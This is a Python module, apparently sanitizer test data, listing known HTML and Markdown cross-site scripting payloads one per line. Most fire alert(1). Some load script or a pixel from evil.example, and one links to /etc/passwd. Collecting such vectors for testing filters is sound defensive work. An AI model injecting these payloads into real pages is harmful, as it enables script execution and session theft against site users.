"""Known ways of smuggling script through Markdown and HTML, one per line."""

HTML = """
<script>alert(1)</script>
<SCRIPT SRC=//evil.example/x.js></SCRIPT>
<scr<script>ipt>alert(1)</scr</script>ipt>
<script\x0b>alert(1)</script>
<script/xss src="//evil.example/x.js"></script>
<<script>alert(1);//<</script>
<img src=x onerror=alert(1)>
<img src="javascript:alert(1)">
<img/src/onerror=alert(1)>
<img \"\"\"><script>alert(1)</script>\">
<img src=# onmouseover="alert(1)">
<img src=/ onerror="alert(1)"></img>
<svg onload=alert(1)>
<svg/onload=alert(1)>
<svg><script>alert(1)</script></svg>
<svg><animate onbegin=alert(1) attributeName=x dur=1s>
<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>
<svg><style><img src=x onerror=alert(1)></style></svg>
<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>
<math><a xlink:href="javascript:alert(1)">x</a></math>
<body onload=alert(1)>
<body background="javascript:alert(1)">
<iframe src="javascript:alert(1)"></iframe>
<iframe srcdoc="<script>alert(1)</script>"></iframe>
<object data="javascript:alert(1)"></object>
<embed src="javascript:alert(1)">
<link rel=stylesheet href="javascript:alert(1)">
<style>@import 'javascript:alert(1)';</style>
<style>body{background:url("javascript:alert(1)")}</style>
<meta http-equiv="refresh" content="0;url=javascript:alert(1)">
<base href="javascript:alert(1)//">
<form action="javascript:alert(1)"><button>x</button></form>
<button formaction="javascript:alert(1)">x</button>
<input onfocus=alert(1) autofocus>
<input type=image src="javascript:alert(1)">
<select onfocus=alert(1) autofocus>
<textarea onfocus=alert(1) autofocus>
<keygen onfocus=alert(1) autofocus>
<video><source onerror="alert(1)"></video>
<video src=x onerror=alert(1)>
<audio src=x onerror=alert(1)>
<details open ontoggle=alert(1)>
<marquee onstart=alert(1)>
<div style="background:url(javascript:alert(1))">
<div style="width:expression(alert(1))">
<p onclick=alert(1)>x</p>
<a href="javascript:alert(1)">x</a>
<a href="jav&#x09;ascript:alert(1)">x</a>
<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;:alert(1)">x</a>
<a href="\x01javascript:alert(1)">x</a>
<a href="data:text/html;base64,PHNjcmlwdD4=">x</a>
<a href="vbscript:msgbox(1)">x</a>
<a href=x onclick=alert(1)>x</a>
<noscript><p title="</noscript><img src=x onerror=alert(1)>">
<template><script>alert(1)</script></template>
<!--><img src=x onerror=alert(1)>-->
<![CDATA[<script>alert(1)</script>]]>
<?xml version="1.0"?><script>alert(1)</script>
<title><img src=x onerror=alert(1)></title>
<xmp><img src=x onerror=alert(1)></xmp>
<plaintext><img src=x onerror=alert(1)>
<table background="javascript:alert(1)"><tr><td>x
<isindex type=image src=1 onerror=alert(1)>
&lt;script&gt;alert(1)&lt;/script&gt;
&#60;img src=x onerror=alert(1)&#62;
""".strip().split("\n")

MARKDOWN = """
[x](javascript:alert(1))
[x](JaVaScRiPt:alert(1))
[x](java\tscript:alert(1))
[x](javascript&colon;alert(1))
[x](&#106;avascript:alert(1))
[x](\x01javascript:alert(1))
[x](<javascript:alert(1)>)
[x](data:text/html,<script>alert(1)</script>)
[x](vbscript:msgbox(1))
[x](file:///etc/passwd)
[x](https://ok.example "onmouseover=alert(1)")
[x](https://ok.example" onmouseover="alert(1))
[x](https://ok.example 'a"onmouseover="alert(1)')
[<img src=x onerror=alert(1)>](https://ok.example)
![x](javascript:alert(1))
![x](https://evil.example/pixel.gif)
![x" onerror="alert(1)](x)
![<script>alert(1)</script>](x)
<javascript:alert(1)>
<https://ok.example/"onmouseover="alert(1)>
https://ok.example/"onmouseover="alert(1)
https://ok.example/<script>alert(1)</script>
javascript:alert(1)
`<script>alert(1)</script>`
``<img src=x onerror=alert(1)>``
    <script>alert(1)</script>
> <script>alert(1)</script>
- <img src=x onerror=alert(1)>
# <svg onload=alert(1)>
**<b onclick=alert(1)>x</b>**
*<a href="javascript:alert(1)">x</a>*
[x]: javascript:alert(1)
[x][y]
@<script>alert(1)</script>
@amina" onclick="alert(1)
| <script>alert(1)</script> | b |
\\<script>alert(1)\\</script>
\x02klzzwxh:0001\x03<script>alert(1)</script>
""".strip("\n").split("\n")

ALL = HTML + MARKDOWN
